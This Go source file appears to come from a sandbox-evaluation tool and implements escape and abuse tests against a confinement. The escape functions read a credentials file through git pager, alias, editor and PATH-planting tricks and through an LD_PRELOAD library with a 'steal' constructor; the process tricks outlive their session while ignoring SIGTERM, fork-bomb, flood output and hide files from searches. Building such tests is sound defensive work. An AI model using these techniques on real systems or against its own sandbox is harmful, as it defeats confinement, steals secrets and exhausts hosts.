package hostile

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/sdd-eval/sdd-eval/internal/confine"
)

// commands are the escapes that use programs which are often allowed.
func commands() []Escape {
	all := []Escape{
		{Name: "git-pager", try: gitPager},
		{Name: "git-alias", try: func(t Target) (string, error) {
			return output(t.command("git", "-c", "alias.x=!cat "+t.credentials(), "x"))
		}},
		{Name: "git-editor", try: func(t Target) (string, error) {
			repository, err := t.repository()
			if err != nil {
				return "", err
			}
			// Git appends the name of the message's file to the editor's arguments: cat prints that file, too.
			editor := "core.editor=cat " + t.credentials()
			out, err := output(t.command("git", "-C", repository, "-c", editor, "commit", "--allow-empty"))
			if len(out) > 0 {
				err = nil // git rejects the message
			}
			return out, err
		}},
		{Name: "planted-git", try: func(t Target) (string, error) {
			bin := t.inside()
			script := "#!/bin/sh\nexec cat " + t.credentials() + "\n"
			if err := os.Mkdir(bin, 0o755); err != nil {
				return "", err
			}
			if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
				return "", err
			}
			cmd := t.command("sh", "-c", "git status")
			cmd.Env = append(cmd.Env, "PATH="+bin+":"+os.Getenv("PATH"))
			return output(cmd)
		}},
		{Name: "preload", Uncertain: "it takes a C compiler", try: preload},
	}
	for i := range all {
		all[i].Property, all[i].Proof = confine.FilesRead, Secret
	}
	return all
}

func (t Target) credentials() string { return filepath.Join(t.Project, SecretFile) }

// command returns a command in the workspace.
func (t Target) command(name string, args ...string) *exec.Cmd {
	cmd := exec.Command(name, args...)
	cmd.Dir = t.Workspace
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null",
		"GIT_AUTHOR_NAME=h", "GIT_AUTHOR_EMAIL=h@example.com",
		"GIT_COMMITTER_NAME=h", "GIT_COMMITTER_EMAIL=h@example.com")
	return cmd
}

// repository makes a repository in the workspace with one commit.
func (t Target) repository() (string, error) {
	dir := t.inside()
	if _, err := output(t.command("git", "init", "-q", dir)); err != nil {
		return "", err
	}
	_, err := output(t.command("git", "-C", dir, "commit", "-q", "--allow-empty", "-m", "first"))
	return dir, err
}

// gitPager gives git a terminal, without which it has no pager.
func gitPager(t Target) (string, error) {
	repository, err := t.repository()
	if err != nil {
		return "", err
	}
	master, terminal, err := OpenTerminal()
	if err != nil {
		return "", err
	}
	defer master.Close()
	cmd := t.command("git", "-C", repository, "-c", "core.pager=cat "+t.credentials(), "log")
	cmd.Env = append(cmd.Env, "GIT_PAGER_IN_USE=", "TERM=xterm")
	cmd.Stdout, cmd.Stderr = terminal, terminal
	err = cmd.Run()
	terminal.Close()
	data := make([]byte, maxRead)
	n, readErr := master.Read(data) // all that was written, if it was not much
	if err == nil && n == 0 {
		err = readErr
	}
	return string(data[:n]), err
}

// OpenTerminal returns both ends of a pseudo-terminal.
func OpenTerminal() (master, terminal *os.File, err error) {
	if master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0); err != nil {
		return nil, nil, err
	}
	defer func() {
		if err != nil {
			master.Close()
		}
	}()
	if err = unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return nil, nil, fmt.Errorf("unlock the terminal: %w", err)
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		return nil, nil, fmt.Errorf("number of the terminal: %w", err)
	}
	terminal, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	return master, terminal, err
}

// preloaded is a library that prints a file when it is loaded.
const preloaded = `#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void steal(void) {
	char *path = getenv("STEAL"), buf[4096];
	FILE *f = path ? fopen(path, "r") : 0;
	size_t n = f ? fread(buf, 1, sizeof buf, f) : 0;
	fwrite(buf, 1, n, stdout);
	fflush(stdout);
}
`

// preload builds a library and has a harmless program load it.
func preload(t Target) (string, error) {
	source := t.inside()
	library := source + ".so"
	if err := os.WriteFile(source+".c", []byte(preloaded), 0o644); err != nil {
		return "", err
	}
	if _, err := output(t.command("cc", "-shared", "-fPIC", "-o", library, source+".c")); err != nil {
		return "", err
	}
	cmd := t.command("true")
	cmd.Env = append(cmd.Env, "LD_PRELOAD="+library, "STEAL="+t.credentials())
	return output(cmd)
}

// Trick returns the arguments of a process that does not attack anything outside, but does not end or uses too much:
//
//	outlive DIR    leaves behind a process in another session, which holds Heartbeat(DIR), and ends
//	stay DIR       does the same, but does not end and ignores SIGTERM and the like
//	flood BYTES    writes that much to stdout
//	bomb N         starts that many processes, which stay, and prints "all"
//	storm WORD     starts processes that start processes, with the word in their arguments, and busies all processors
//	terminal -     prints "ready" through a pseudo-terminal of its own, which is allowed
//	neighbour N    has that many bytes of memory, which is little, until its input ends
//	leave TEXT     leaves the text where a search does not easily find it
//	vast NAME      leaves a file of 12 GiB, most of it a hole, under so many names that a search takes minutes
func Trick(name, argument string) []string { return []string{Name, name, argument} }

// lifetime is how long a process lives at most that a failed test has left.
const lifetime = time.Minute

var tricks = map[string]func(args []string){
	"victim":    victim,
	"cat":       cat,
	"outlive":   func(args []string) { leaveBehind(args[0]) },
	"stay":      stay,
	"daemon":    func(args []string) { spawn(true, "heartbeat", args[0]) },
	"heartbeat": heartbeat,
	"flood":     flood,
	"bomb":      bomb,
	"storm":     storm,
	"terminal":  talkToOurselves,
	"hog":       func(args []string) { hog(args[0]) },
	"neighbour": neighbour,
	"leave":     leave,
	"vast":      vast,
}

// Heartbeat returns the file that a process holds locked, and writes to, for as long as it lives. It begins with its
// pid.
func Heartbeat(dir string) string { return filepath.Join(dir, "heartbeat") }

// deaf ignores the signals that ask a process to end.
func deaf() { signal.Ignore(syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP, syscall.SIGPIPE) }

// spawn starts another hostile process with our streams.
func spawn(setsid bool, args ...string) *exec.Cmd {
	cmd := exec.Command("/proc/self/exe")
	cmd.Args = append([]string{Name}, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: setsid}
	if err := cmd.Start(); err != nil {
		fail(err)
	}
	return cmd
}

// leaveBehind starts a process with another parent, session and group, and returns when it has started.
func leaveBehind(dir string) {
	born := filepath.Join(dir, "born")
	if err := unix.Mkfifo(born, 0o600); err != nil {
		fail(err)
	}
	_ = spawn(true, "daemon", dir).Wait()
	if _, err := os.ReadFile(born); err != nil {
		fail(err)
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "hostile:", err)
	syscall.Exit(1)
}

func stay(args []string) {
	deaf()
	leaveBehind(args[0])
	fmt.Println("ready")
	time.Sleep(lifetime)
}

// heartbeat writes to its file as long as it lives.
func heartbeat(args []string) {
	deaf()
	f, err := os.OpenFile(Heartbeat(args[0]), os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err == nil {
		err = unix.Flock(int(f.Fd()), unix.LOCK_EX)
	}
	if err == nil {
		_, err = fmt.Fprintln(f, os.Getpid())
	}
	if err == nil {
		err = os.WriteFile(filepath.Join(args[0], "born"), nil, 0o600)
	}
	if err != nil {
		fail(err)
	}
	for end := time.Now().Add(lifetime); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		_, _ = f.WriteString(".")
	}
}

func flood(args []string) {
	fail(syscall.Exec("/bin/sh", []string{"sh", "-c", "exec head -c $0 /dev/zero", args[0]}, os.Environ()))
}

// bomb becomes a shell, whose processes cost little.
func bomb(args []string) {
	const script = `i=0; while [ $i -lt $0 ]; do sleep 60 & i=$((i+1)); done; sleep 1; echo all`
	fail(syscall.Exec("/bin/sh", []string{"sh", "-c", script, args[0]}, os.Environ()))
}

// storm doubles until 1,024 processes take all processors, and as many wait for them. Without that limit, an unbounded
// one could not be stopped.
func storm(args []string) {
	const script = `storm() {
		if [ $1 -gt 0 ]; then storm $(($1-1)) & storm $(($1-1)) & wait; else while :; do :; done; fi
	}
	storm 10`
	fail(syscall.Exec("/bin/sh", []string{"sh", "-c", script, args[0]}, os.Environ()))
}

func talkToOurselves([]string) {
	master, terminal, err := OpenTerminal()
	if err != nil {
		fail(err)
	}
	if _, err := fmt.Fprintln(terminal, "ready"); err != nil {
		fail(err)
	}
	line, err := bufio.NewReader(master).ReadString('\n')
	if err != nil {
		fail(err)
	}
	fmt.Print(line)
}
